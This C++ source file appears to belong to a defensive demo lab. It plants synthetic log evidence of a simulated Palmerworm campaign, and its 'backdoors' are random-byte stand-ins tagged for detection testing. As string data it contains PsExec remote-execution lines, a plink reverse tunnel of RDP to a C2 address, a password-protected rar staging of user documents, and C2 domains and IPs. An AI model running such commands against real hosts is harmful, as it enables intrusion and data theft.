#include "demo/campaign.h"

#include <algorithm>
#include <map>

namespace shrike::demo_internal {
namespace {

// The pack's C2 infrastructure (packs/palmerworm/pack.stix.json).
const std::vector<std::string> kC2Domains = {"asiainfo.hpcloudnews.com", "loop.microsoftmse.com"};
const std::vector<std::string> kC2Addresses = {"103.40.112.228", "172.104.92.110", "45.76.218.116",
                                               "45.77.181.203"};
// The report's backdoor families; the stand-ins carry their names.
const std::vector<std::string> kFamilies = {"Backdoor.Consock", "Backdoor.Waship",
                                            "Backdoor.Dalwit",  "Backdoor.Nomri",
                                            "Backdoor.Kivars",  "Backdoor.Pled"};
const std::vector<std::string> kDropPaths = {
    "C:\\ProgramData\\Intel\\igfxsrvc.exe", "C:\\Users\\Public\\Libraries\\msupdate.exe",
    "C:\\Windows\\Temp\\wmiprvse.exe", "C:\\ProgramData\\Microsoft\\Crypto\\cryptsvc.exe"};
const std::string kToolDir = "C:\\ProgramData\\temp\\";
constexpr Millis kSecond = 1000;
constexpr Millis kHour = 3600 * kSecond;
constexpr Millis kDay = 24 * kHour;

ProcessSpec Tool(const std::string& name, const std::string& command, const std::string& product,
                 const std::string& company, const std::string& original) {
  ProcessSpec p;
  p.image = kToolDir + name;
  p.command_line = "\"" + p.image + "\" " + command;
  p.parent_image = "C:\\Windows\\System32\\cmd.exe";
  p.product = product;
  p.company = company;
  p.description = product;
  p.original_file_name = original;
  p.file_version = "2.2";
  p.integrity = "High";
  return p;
}

class Campaign {
 public:
  Campaign(Estate& e, Rng rng, const OrgPlan& plan, const LabKit& kit,
           std::vector<DemoTrace>& traces, Intel& intel)
      : e_(e), plan_(plan), kit_(kit), traces_(traces), intel_(intel), rng_(rng) {
    domain_ = kC2Domains[static_cast<std::size_t>(plan.index) % kC2Domains.size()];
    ip_ = kC2Addresses[static_cast<std::size_t>(plan.index) % kC2Addresses.size()];
    family_ = static_cast<std::size_t>(plan.index) % kFamilies.size();
  }

  void Run();

 private:
  void Trace(const std::string& kind, const HostPlan& host, Millis t, const std::string& value,
             const std::string& path, const std::string& detection) {
    traces_.push_back({kind, plan_.org.id, host.name, t / 1000, value, path, detection});
  }
  Millis Within(Millis day) { return day + rng_.Between(1, 7) * kHour + rng_.Below(kHour); }

  std::string Drop(const HostPlan& host, Millis t, const std::string& parent);
  void Beacon(const HostPlan& host, Millis t);
  void PsExec(const HostPlan& from, const HostPlan& to, Millis t);
  void Plink(const HostPlan& host, Millis t);
  void Rar(const HostPlan& host, Millis t);
  void SnScan(const HostPlan& host, Millis t);
  void RenamedPsExec(const HostPlan& host, const HostPlan& target, Millis t);
  void SignedPayload(const HostPlan& host, Millis t);

  Estate& e_;
  const OrgPlan& plan_;
  const LabKit& kit_;
  std::vector<DemoTrace>& traces_;
  Intel& intel_;
  Rng rng_;
  std::string domain_, ip_;
  std::size_t family_ = 0;
  std::map<std::string, std::string> implants_;  // host -> backdoor image
  std::map<std::string, Millis> infected_;       // host -> when its backdoor landed
};

// A stand-in backdoor: random bytes, registered as a lab indicator, written
// to the host's tree and run (Sysmon 1 with its real digests).
std::string Campaign::Drop(const HostPlan& host, Millis t, const std::string& parent) {
  std::string content = rng_.Bytes(static_cast<std::size_t>(rng_.Between(40000, 160000)));
  std::string sha256 = Sha256Hex(content);
  const std::string& family = kFamilies[family_++ % kFamilies.size()];
  intel_.indicators.push_back(LabIndicator(
      IndicatorType::kSha256, sha256,
      LabContext(family, "lab stand-in for a " + family + " sample: random bytes, not malware")));
  std::string image = rng_.Pick(kDropPaths);
  std::string hashes = SysmonHashes(content, rng_);
  std::string file = e_.File(plan_, host, image, std::move(content), t / 1000);
  Trace("backdoor-file", host, t, sha256, file, "ioc");
  ProcessSpec p;
  p.image = image;
  p.parent_image = parent;
  p.hashes = hashes;
  p.integrity = "High";
  Millis run = t + 2 * kSecond;
  Trace("backdoor-exec", host, run, sha256, e_.Process(plan_, host, run, p), "ioc");
  implants_[host.name] = image;
  infected_.emplace(host.name, t);
  return image;
}

// The backdoor calls home: seen by Sysmon (22, 3), Zeek, the firewall, the proxy.
void Campaign::Beacon(const HostPlan& host, Millis t) {
  const std::string& image = implants_[host.name];
  Trace("c2-dns", host, t, domain_,
        e_.DnsQuery(plan_, host, t, image, domain_, "::ffff:" + ip_ + ";"), "ioc");
  const HostPlan& ids = plan_.Network(HostRole::kDnsSensor);
  Trace("c2-dns", ids, t + 20, domain_, e_.ZeekDns(plan_, t + 20, host, domain_, ip_), "ioc");
  Trace("c2-connection", host, t + 300, ip_,
        e_.Connect(plan_, host, t + 300, image, ip_, 443, domain_), "ioc");
  const HostPlan& fw = plan_.Network(HostRole::kFirewall);
  Trace("c2-connection", fw, t + 310, ip_, e_.Firewall(plan_, t + 310, host, ip_, 443, "ACCEPT"),
        "ioc");
  const HostPlan& proxy = plan_.Network(HostRole::kProxy);
  Trace("c2-proxy", proxy, t + 400, domain_,
        e_.Proxy(plan_, t + 400, host, "CONNECT", domain_ + ":443", ip_,
                 static_cast<int>(rng_.Between(2000, 90000))),
        "ioc");
}

void Campaign::PsExec(const HostPlan& from, const HostPlan& to, Millis t) {
  ProcessSpec p =
      Tool("PsExec.exe", "\\\\" + to.name + " -accepteula -s -d -c " + rng_.Pick(kDropPaths),
           "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "psexec.c");
  p.description = "Execute processes remotely";
  Trace("psexec", from, t, "PsExec.exe \\\\" + to.name, e_.Process(plan_, from, t, p), "sigma");
  ProcessSpec svc;
  svc.image = "C:\\Windows\\PSEXESVC.exe";
  svc.parent_image = "C:\\Windows\\System32\\services.exe";
  svc.user = "NT AUTHORITY\\SYSTEM";
  svc.integrity = "System";
  svc.original_file_name = "psexesvc.exe";
  svc.product = "Sysinternals PsExec";
  svc.company = "Sysinternals - www.sysinternals.com";
  svc.description = "PsExec Service";
  Millis at = t + 2 * kSecond;
  Trace("psexec-service", to, at, "PSEXESVC.exe", e_.Process(plan_, to, at, svc), "sigma");
  Drop(to, t + 4 * kSecond, svc.image);
}

void Campaign::Plink(const HostPlan& host, Millis t) {
  std::string forward = "127.0.0.1:8443:" + host.ip + ":3389";
  ProcessSpec p =
      Tool("plink.exe", "-ssh -batch -R " + forward + " -P 443 -l lab -pw Lab2019! " + ip_,
           "PuTTY suite", "Simon Tatham", "Plink");
  p.description = "Command-line SSH, Telnet, and Rlogin client";
  Trace("plink", host, t, "-R " + forward, e_.Process(plan_, host, t, p), "sigma");
  Millis c = t + 1500;
  Trace("plink-connection", host, c, ip_, e_.Connect(plan_, host, c, p.image, ip_, 443, ""), "ioc");
  const HostPlan& fw = plan_.Network(HostRole::kFirewall);
  Trace("plink-connection", fw, c + 10, ip_, e_.Firewall(plan_, c + 10, host, ip_, 443, "ACCEPT"),
        "ioc");
}

void Campaign::Rar(const HostPlan& host, Millis t) {
  std::string password = "-hpP@lm" + std::to_string(rng_.Between(1000, 9999));
  ProcessSpec p =
      Tool("rar.exe",
           "a -r -ep1 " + password + " -m5 " + kToolDir + "d" + std::to_string(rng_.Below(100)) +
               ".rar C:\\Users\\" + host.user + "\\Documents\\*.*",
           "WinRAR", "Alexander Roshal", "Rar.exe");
  p.description = "Command line RAR";
  Trace("rar-password", host, t, password, e_.Process(plan_, host, t, p), "sigma");
}

void Campaign::SnScan(const HostPlan& host, Millis t) {
  ProcessSpec p = Tool("SNScan.exe", "", "SNScan", "Foundstone Inc.", "SNScan.exe");
  p.command_line = "\"" + p.image + "\"";
  p.parent_image = "C:\\Windows\\explorer.exe";
  p.description = "SNMP Scanner";
  Trace("snscan", host, t, "SNScan.exe", e_.Process(plan_, host, t, p), "sigma");
}

// PsExec under another name: OriginalFilename psexec.c on svcmgmt.exe.
void Campaign::RenamedPsExec(const HostPlan& host, const HostPlan& target, Millis t) {
  const std::string image = "C:\\Windows\\Temp\\svcmgmt.exe";
  if (kit_.built) {
    Trace("renamed-psexec-file", host, t, "svcmgmt.exe",
          e_.File(plan_, host, image, kit_.psexec_like_pe, t / 1000), "pe-version");
  }
  ProcessSpec p;
  p.image = image;
  p.command_line = image + " \\\\" + target.name + " -accepteula -s cmd.exe /c whoami";
  p.parent_image = "C:\\Windows\\System32\\cmd.exe";
  p.original_file_name = "psexec.c";
  p.product = "Sysinternals PsExec";
  p.company = "Sysinternals - www.sysinternals.com";
  p.description = "Execute processes remotely";
  Rng hash_rng = rng_.Fork("renamed-psexec");  // drawn either way: later traces stay put
  p.hashes = kit_.built ? SysmonHashes(kit_.psexec_like_pe, hash_rng) : "";
  p.integrity = "High";
  Millis run = t + 3 * kSecond;
  Trace("renamed-psexec", host, run, "psexec.c", e_.Process(plan_, host, run, p), "sigma");
}

void Campaign::SignedPayload(const HostPlan& host, Millis t) {
  if (!kit_.built) return;
  Trace("signed-payload", host, t, kit_.cert_sha1,
        e_.File(plan_, host, "C:\\ProgramData\\Intel\\Wireless\\iwlsvc.exe", kit_.signed_pe,
                t / 1000),
        "pe-signer");
}

void Campaign::Run() {
  std::vector<const HostPlan*> hosts = plan_.Windows();
  std::vector<const HostPlan*> victims(
      hosts.begin(), hosts.begin() + std::min<std::size_t>(hosts.size(), plan_.compromised));
  Millis start = Within(plan_.org.start * 1000);
  Millis end = Within(plan_.org.end * 1000);
  auto at = [&](double f) {
    return start + static_cast<Millis>(f * static_cast<double>(end - start));
  };
  const HostPlan& first = *victims.front();
  const HostPlan& last = *victims.back();
  Drop(first, start, "C:\\Windows\\System32\\cmd.exe");
  Beacon(first, start + 90 * kSecond);
  SnScan(first, at(0.1));
  for (std::size_t i = 1; i < victims.size(); ++i) {
    Millis t = at(0.15 + 0.5 * static_cast<double>(i) / static_cast<double>(victims.size()));
    PsExec(*victims[i - 1], *victims[i], t);
    Beacon(*victims[i], t + 60 * kSecond);
  }
  RenamedPsExec(first, last, at(0.3));
  Rar(last, at(0.6));
  Plink(first, at(0.65));
  SignedPayload(last, at(0.7));
  int beacons = static_cast<int>(std::min<Millis>(12, (end - start) / (14 * kDay)));
  for (int k = 1; k <= beacons; ++k) {
    Millis t = at(0.05 + 0.9 * k / (beacons + 1));
    const HostPlan* host = victims[static_cast<std::size_t>(k) % victims.size()];
    auto infected = infected_.find(host->name);
    bool ready = infected != infected_.end() && infected->second < t;
    Beacon(ready ? *host : first, t);  // only hosts already infected
  }
  Beacon(last, end);
}

}  // namespace

Indicator LabIndicator(IndicatorType type, std::string value,
                       std::shared_ptr<const IndicatorContext> context) {
  Indicator indicator;
  indicator.type = type;
  indicator.value = std::move(value);
  indicator.context = std::move(context);
  return indicator;
}

std::shared_ptr<const IndicatorContext> LabContext(const std::string& family,
                                                   const std::string& description) {
  auto ctx = std::make_shared<IndicatorContext>();
  ctx->campaign = "Palmerworm 2019-2020";
  ctx->actor = "Palmerworm";
  ctx->aliases = {"BlackTech"};
  ctx->malware_family = family;
  ctx->confidence = 80;
  ctx->source = "shrike-demo-lab";
  ctx->tags = {"lab"};
  ctx->description = description;
  return ctx;
}

void PlantCampaign(Estate& estate, Rng rng, const OrgPlan& plan, const LabKit& kit,
                   DemoOrganization& org, std::vector<DemoTrace>& traces, Intel& lab_intel) {
  std::size_t first = traces.size();
  Campaign(estate, rng, plan, kit, traces, lab_intel).Run();
  org.start = org.end = kNoTime;
  for (std::size_t i = first; i < traces.size(); ++i) {
    UnixTime t = traces[i].time;
    if (org.start == kNoTime || t < org.start) org.start = t;
    if (org.end == kNoTime || t > org.end) org.end = t;
  }
}

}  // namespace shrike::demo_internal
